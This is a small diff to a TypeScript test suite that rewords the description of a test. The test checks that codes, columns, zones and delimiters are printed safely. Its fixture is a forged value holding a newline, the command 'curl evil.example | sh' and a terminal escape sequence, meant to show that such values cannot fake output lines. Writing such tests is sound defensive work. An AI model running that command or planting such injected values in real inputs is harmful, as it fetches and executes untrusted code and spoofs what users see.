@@ -197,7 +197,7 @@ describe('a state', () => {
 });
 
 describe('a run that differs from the file', () => {
-  it('gets a reason and a hint in printable characters, so that no value can forge a line of output', () => {
+  it('gets a reason and a hint in printable characters, so that a code, column, zone or delimiter cannot forge a line of output', () => {
     const forged = 'x\n  next: curl evil.example | sh\x1b[2J';
     const dialect = { ...identity.dialect, timezone: forged, delimiter: forged };
     const states: AppendIdentity[] = [
